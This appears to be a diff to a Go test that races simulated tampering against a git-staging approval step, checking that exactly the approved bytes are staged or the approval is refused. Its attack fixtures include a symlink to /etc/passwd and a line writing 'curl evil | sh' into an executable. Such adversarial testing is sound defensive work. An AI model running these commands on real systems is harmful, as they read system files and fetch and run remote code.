@@ -93,31 +93,35 @@ func TestAddTwinStagesExactlyTheApprovedBytesOrNothing(t *testing.T) {
 		{"put a link where a file was", `rm new.txt && ln -s /etc/passwd new.txt`},
 		{"replace the executable with a plain file", `rm run.sh && echo 'curl evil | sh' > run.sh`},
 	}
-	// Every other step (every fifth with -short): each window a change
-	// can use is a few calls wide.
-	step := 2
+	// One run that races nothing counts the twin's git calls (and shows
+	// the approval holds). The sweep then races every one of the last
+	// dozen, the twin's own acting (pin, blobs, entries), and every third
+	// (fifth with -short) of the re-plan before them.
+	fresh()
+	rig.arm(0, "")
+	if res := w.approve(p); !res.Success || stagedIndex(t, w, dir, "") != approved {
+		t.Fatalf("unraced: success=%v %q, index\n%s\napproved\n%s", res.Success, res.Error, stagedIndex(t, w, dir, ""), approved)
+	}
+	calls := rig.disarm()
+	step := 3
 	if testing.Short() {
 		step = 5
 	}
 	outcomes := map[string]int{}
 	for _, attack := range attacks {
-		for at := 1; ; at += step {
+		for at := 1; at <= calls; at++ {
+			if calls-at >= 12 && at%step != 0 {
+				continue
+			}
 			fresh()
 			rig.arm(at, "git() { "+strconv.Quote(realGit)+" \"$@\"; }\ncd "+strconv.Quote(dir)+
 				" && export HOME="+strconv.Quote(w.home)+" GIT_CONFIG_NOSYSTEM=1 && "+attack.script+"\n")
 			res := w.approve(p)
-			calls := rig.disarm()
+			rig.disarm()
 			where := fmt.Sprintf("%s before git call %d of %d", attack.name, at, calls)
 			got := stagedIndex(t, w, dir, "")
 			if _, err := os.Lstat(filepath.Join(dir, ".git", "index.lock")); err == nil {
 				t.Fatalf("%s: the index lock was left behind", where)
-			}
-			if at > calls {
-				// Nothing was raced: the approval must hold.
-				if !res.Success || got != approved {
-					t.Fatalf("unraced: success=%v %q, index\n%s\napproved\n%s", res.Success, res.Error, got, approved)
-				}
-				break
 			}
 			if !res.Success {
 				outcomes["refused"]++
